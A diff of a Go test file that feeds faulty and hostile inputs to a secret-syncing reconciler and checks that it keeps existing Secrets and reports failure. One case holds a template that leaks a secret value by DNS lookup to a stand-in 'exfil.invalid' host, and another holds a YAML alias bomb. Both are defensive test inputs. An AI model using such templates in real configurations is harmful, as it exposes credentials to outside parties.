@@ -22,66 +22,63 @@ const canary = "LEAKCANARY-7f3e(unclosed"
 // `status` and `explain` print) or a diff.
 func TestFaultsAndBadInput(t *testing.T) {
 	cases := []struct {
-		name   string
-		break_ func(f *fixture)
-		// other says whether the ExternalSecret "other" still has its Secret
-		// as it was (false where the case rightly changes it).
-		otherKept bool
+		name    string
+		inflict func(f *fixture)
 	}{
 		{"an apiVersion typo", func(f *fixture) {
 			f.commit(map[string]string{"other.yaml": strings.Replace(f.es("other", "v=fault/other"), "external-secrets.io/v1", "external-secret.io/v1", 1)})
-		}, true},
+		}},
 		{"a kind typo", func(f *fixture) {
 			f.commit(map[string]string{"other.yaml": strings.Replace(f.es("other", "v=fault/other"), "kind: ExternalSecret", "kind: ExternalSecrets", 1)})
-		}, true},
+		}},
 		{"an ESO kind secretsync does not handle", func(f *fixture) {
 			f.commit(map[string]string{"push.yaml": "apiVersion: external-secrets.io/v1alpha1\nkind: PushSecret\nmetadata: {name: p, namespace: " + f.ns + "}\nspec: {}\n",
 				"other.yaml": ""})
-		}, true},
+		}},
 		{"a file over the read limit", func(f *fixture) {
 			f.commit(map[string]string{"other.yaml": f.es("other", "v=fault/other") + "# " + strings.Repeat("x", 9<<20) + "\n"})
-		}, true},
+		}},
 		{"a YAML alias bomb", func(f *fixture) {
 			f.commit(map[string]string{"bomb.yaml": bomb(), "other.yaml": ""})
-		}, true},
+		}},
 		{"broken YAML", func(f *fixture) {
 			f.commit(map[string]string{"other.yaml": "apiVersion: external-secrets.io/v1\nkind: [unclosed\n"})
-		}, true},
+		}},
 		{"a plaintext Secret in Git", func(f *fixture) {
 			f.commit(map[string]string{"plain.yaml": "apiVersion: v1\nkind: Secret\nmetadata: {name: plain, namespace: " + f.ns + "}\nstringData: {p: " + canary + "}\n"})
 			f.remember(canary)
-		}, true},
+		}},
 		{"a template error over a value", func(f *fixture) {
 			f.rotate("fault/other", canary)
 			f.commit(map[string]string{"other.yaml": strings.Replace(f.es("other", "v=fault/other"), "  data:\n",
 				"  target: {template: {data: {v: '{{ mustRegexMatch .v \"a\" }}{{ fromJson .v }}'}}}\n  data:\n", 1)})
-		}, true},
+		}},
 		{"a template that tries the network", func(f *fixture) {
 			f.commit(map[string]string{"other.yaml": strings.Replace(f.es("other", "v=fault/other"), "  data:\n",
 				"  target: {template: {data: {v: '{{ getHostByName (printf \"%s.exfil.invalid\" .v) }}'}}}\n  data:\n", 1)})
-		}, true},
+		}},
 		{"an invalid key name", func(f *fixture) {
 			f.commit(map[string]string{"other.yaml": f.es("other", "bad key=fault/other")})
-		}, true},
+		}},
 		{"a value over the Secret size limit", func(f *fixture) {
 			f.rotate("fault/other", strings.Repeat("v", 1100<<10))
-		}, true},
+		}},
 		{"a remote secret that is gone", func(f *fixture) {
 			f.sm.Delete(f.t, "fault/other")
-		}, true},
+		}},
 		{"AWS throttling on every call", func(f *fixture) {
 			f.sm.SM.SetFault(func(string, string) error { return smserver.ErrThrottled })
-		}, true},
+		}},
 		{"AWS 5xx on every call", func(f *fixture) {
 			f.sm.SM.SetFault(func(string, string) error { return smserver.ErrInternal })
-		}, true},
+		}},
 		{"AWS access denied", func(f *fixture) {
 			f.sm.SM.SetFault(func(string, string) error { return smserver.ErrDenied })
-		}, true},
+		}},
 		{"AWS slower than the pass timeout", func(f *fixture) {
 			f.rec = f.newReconciler(func(c *reconciler.Config) { c.PassTimeout = 300 * time.Millisecond })
 			f.sm.SM.SetLatency(time.Second)
-		}, true},
+		}},
 	}
 	for _, c := range cases {
 		t.Run(c.name, func(t *testing.T) {
@@ -92,7 +89,7 @@ func TestFaultsAndBadInput(t *testing.T) {
 			mustOK(t, f.pass())
 			before := map[string]map[string]string{"keep": data(f.secret("keep")), "other": data(f.secret("other"))}
 
-			c.break_(f)
+			c.inflict(f)
 			res := f.pass()
 			if res.OK() {
 				t.Fatal("the pass reported success")
@@ -100,10 +97,10 @@ func TestFaultsAndBadInput(t *testing.T) {
 			if res.Pruned != 0 {
 				t.Fatalf("pruned %d", res.Pruned)
 			}
+			// "other" is the failing object in every case: its last good
+			// Secret stays too.
 			sameData(t, "secret keep", data(f.secret("keep")), before["keep"])
-			if c.otherKept {
-				sameData(t, "secret other", data(f.secret("other")), before["other"])
-			}
+			sameData(t, "secret other", data(f.secret("other")), before["other"])
 			f.sm.SM.SetFault(nil)
 			f.sm.SM.SetLatency(0)
 			f.rec = f.newReconciler() // the same state a restart would have
